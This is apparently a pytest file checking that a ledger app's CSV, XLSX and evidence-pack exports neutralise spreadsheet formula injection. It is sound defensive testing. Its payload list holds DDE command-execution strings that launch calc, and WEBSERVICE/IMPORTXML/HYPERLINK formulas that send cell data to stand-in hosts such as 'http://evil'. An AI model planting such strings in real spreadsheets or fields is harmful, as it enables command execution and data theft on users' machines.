"""Text people typed can never become a formula or a link in any export (OWASP CSV injection).

Over 100 hostile strings go into every free-text field: payee, description, reference, note,
category, provider name, invoice number, document file name, the person's name and KCC ref.
Most are stored through the services; the exact strings (with a leading tab, CR, LF or space,
which the services trim or refuse) are then written straight into the real database, as data
from an older version or another program could be, to prove the writers need no help.
"""

from __future__ import annotations

import csv
import re
import sqlite3
import zipfile
from collections.abc import Iterator
from contextlib import closing
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pytest

from kentcard.core.money import Money
from kentcard.core.records import Frequency, PlanLine, Source
from kentcard.export.safety import TRIGGERS, csv_text, is_risky
from kentcard.services.context import Context
from kentcard.services.export import Format, export
from kentcard.services.invoices import InvoiceDraft, add_invoice
from kentcard.services.ledger import InvoiceClaim, add_money_in, add_money_out
from kentcard.services.opening import open_context
from kentcard.services.plans import set_plan
from kentcard.services.providers import add_provider
from kentcard.services.recipients import setup_recipient
from kentcard.services.settings import Settings
from tests.conftest import TODAY
from tests.export.ledger import make_file

BASE = [
    "=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"http://x\",\"y\")", "=cmd|' /C calc'!A0",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1+1", "﹢1", "﹣1", "﹫A1",
    "-2+3+cmd|' /C calc'!A0", "@cmd|'/c notepad'!_xlbgnm.A1", "=IMPORTXML(\"http://x\",\"//a\")",
    "=WEBSERVICE(\"http://x/?\"&A1)", "+HYPERLINK(\"http://x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=1+1;=2", "==", "=", "+", "-", "@", "=A1", "=\"http://x\"", "#N/A", "#REF!",
    "http://example.com/", "=SUM(1,2)*cmd|'/C calc'!A0",
]  # fmt: skip
PREFIXES = ["", " ", "   ", "\t", "\r", "\n", "\u3000", " \t", "\n "]
# Every base string bare, and the first twelve behind each kind of leading white space.
PAYLOADS = list(dict.fromkeys(BASE + [p + b for p in PREFIXES for b in BASE[:12]]))
START, END = date(2026, 1, 1), date(2026, 10, 31)
FORMULA_FUNCTIONS = {"ROUND", "SUMIFS", "SUM", "SUMPRODUCT", "MAX", "COUNTIF", "IF", "ABS"}


def payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def test_there_are_over_a_hundred_payloads_and_each_is_caught() -> None:
    """The list is 100+ strings, and every one that starts like a formula is flagged."""
    assert len(PAYLOADS) > 100
    for text in PAYLOADS:
        if text.lstrip()[:1] in TRIGGERS or text[:1] in TRIGGERS:
            assert is_risky(text) and csv_text(text).startswith("'")
    assert not is_risky("Bright Homecare") and csv_text("Lunch club") == "Lunch club"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Context, int]]:
    """A ledger whose every free-text field holds one of the payloads (built once: it is slow)."""
    tmp_path = tmp_path_factory.mktemp("hostile")
    db_path = tmp_path / "k.sqlite3"
    ctx = open_context(Settings(db=str(db_path), exports=tmp_path, clock=lambda: TODAY))
    try:
        yield ctx, _build(ctx, tmp_path, db_path)
    finally:
        ctx.db.dispose()


@pytest.fixture
def hostile(hostile_db: tuple[Context, int]) -> int:
    return hostile_db[1]


@pytest.fixture
def ctx(hostile_db: tuple[Context, int]) -> Context:
    return hostile_db[0]


def _build(ctx: Context, tmp_path: Path, db_path: Path) -> int:
    rid = setup_recipient(ctx, name="Placeholder").id
    set_plan(
        ctx, rid, start=START, frequency=Frequency.MONTHLY, council=Money(100000),
        lines=[PlanLine("Care", Money(90000))],
    )  # fmt: skip
    for k in range(3):
        add_provider(ctx, rid, name=f"Provider {k}")
    for i in range(len(PAYLOADS)):
        day = START + timedelta(days=i)
        receipt = make_file(tmp_path / "files", f"r{i}.txt", f"receipt {i}")
        invoice = add_invoice(
            ctx, rid, InvoiceDraft(f"Provider {i % 3}", f"N{i}", day, Money(1000)),
            make_file(tmp_path / "files", f"i{i}.pdf", f"invoice {i}"),
        )  # fmt: skip
        add_money_out(
            ctx, rid, date=day, amount=Money(1500), payee=f"Provider {i % 3}",
            description="d", reference="r", category="c", receipts=[receipt],
            invoices=[InvoiceClaim(invoice.number)],
        )  # fmt: skip
        add_money_in(ctx, rid, date=day, amount=Money(700), source=Source.REFUND,
                     reference="r", note="n", category="c")  # fmt: skip
    _make_hostile(db_path, rid)
    return rid


def _make_hostile(db_path: Path, rid: int) -> None:
    updates = {
        "money_out": ("payee", "description", "reference", "category"),
        "money_in": ("reference", "note", "category"),
        "invoice": ("number",),
        "document": ("filename",),
        "provider": ("name",),
    }
    with closing(sqlite3.connect(db_path)) as raw, raw:
        for table, columns in updates.items():
            ids = [r[0] for r in raw.execute(f"SELECT id FROM {table} ORDER BY id")]
            for n, row_id in enumerate(ids):
                values = [payload(n + k) for k in range(len(columns))]
                sets = ", ".join(f"{c} = ?" for c in columns)
                raw.execute(f"UPDATE {table} SET {sets} WHERE id = ?", (*values, row_id))
        raw.execute(
            "UPDATE recipient SET name = ?, kcc_ref = ? WHERE id = ?",
            ('=HYPERLINK("http://evil","Jo")', "+44 1234", rid),
        )


def test_workbook_has_no_formula_or_link_from_user_text(
    ctx: Context, hostile: int, tmp_path: Path
) -> None:
    """Only our own formulas (our functions over cell ranges, our own words in quotes) in
    any sheet, none holding text a person typed, and no hyperlink at all."""
    path = export(ctx, hostile, START, END, Format.XLSX, tmp_path / "x.xlsx")
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name).decode("utf-8") for name in archive.namelist()}
    sheets = sorted(n for n in parts if n.startswith("xl/worksheets/sheet"))
    assert len(sheets) == 7
    ours = {"", "OK", "KCC", "Your contribution", "Refund", "Other", "Opening balance"}
    for name in sheets:
        assert "<f " not in parts[name], name
        for formula in re.findall(r"<f>(.*?)</f>", parts[name]):
            assert set(re.findall(r"([A-Z]+)\(", formula)) <= FORMULA_FUNCTIONS, formula
            assert not re.search(r"cmd|http|calc|HYPERLINK|DDE|IMPORT", formula), formula
            quoted = re.findall(r"&quot;(.*?)&quot;", formula)
            assert set(quoted) <= ours | {"&gt;0", "&gt;=", "&lt;="}, formula
    for name, text in parts.items():
        assert "hyperlink" not in name.lower() and "externalLink" not in name
        assert "<hyperlinks" not in text and "ddeLink" not in text
        if name.endswith(".rels"):
            assert "/hyperlink" not in text, name


def test_workbook_shows_each_payload_exactly_as_text(
    ctx: Context, hostile: int, tmp_path: Path
) -> None:
    """Every payload reads back as the same text in a string cell; risky ones get a quote prefix."""
    path = export(ctx, hostile, START, END, Format.XLSX, tmp_path / "x.xlsx")
    book = openpyxl.load_workbook(path)
    seen: dict[str, object] = {}
    for ws in book.worksheets[1:]:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str):
                    if cell.data_type == "f":  # our own: a total, or a month's roll-forward
                        assert cell.row == ws.max_row or ws.title == "Budget by month", cell
                        continue
                    assert cell.data_type == "s"
                    seen[cell.value] = cell
    for text in PAYLOADS:
        shown = text.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert shown in seen, repr(text)
        assert seen[shown].quotePrefix == is_risky(text), repr(text)  # type: ignore[attr-defined]
    summary = book["Summary"]
    assert (
        summary["B2"].value == '=HYPERLINK("http://evil","Jo")' and summary["B2"].data_type == "s"
    )


def test_csv_files_have_no_field_starting_with_a_trigger(
    ctx: Context, hostile: int, tmp_path: Path
) -> None:
    """No CSV field can start a formula: risky text has an apostrophe, and numbers are plain."""
    folder = export(ctx, hostile, START, END, Format.CSV, tmp_path / "csv")
    texts = set()
    for path in sorted(folder.glob("*.csv")):
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for field in row:
                    texts.add(field)
                    if re.fullmatch(r"-?[0-9]+\.[0-9]{2}", field):
                        continue  # an amount such as -12.00 is a number, not text
                    assert field[:1] not in TRIGGERS and field.lstrip()[:1] not in TRIGGERS, field
    assert {"'" + p for p in PAYLOADS if is_risky(p)} <= texts


def test_pack_names_are_safe_whatever_the_text(ctx: Context, hostile: int, tmp_path: Path) -> None:
    """Evidence file names in the pack are plain ASCII with no separators or leading dots."""
    path = export(ctx, hostile, START, END, Format.PACK, tmp_path / "p.zip")
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
    files = [n.removeprefix("evidence/") for n in names if n.startswith("evidence/")]
    assert len(files) == 2 * len(PAYLOADS)
    for name in files:
        assert re.fullmatch(r"\d{4}-\d\d-\d\d_[A-Za-z0-9-]+_[A-Za-z0-9-]+\.(pdf|txt)", name), name
    assert len({n.casefold() for n in files}) == len(files)
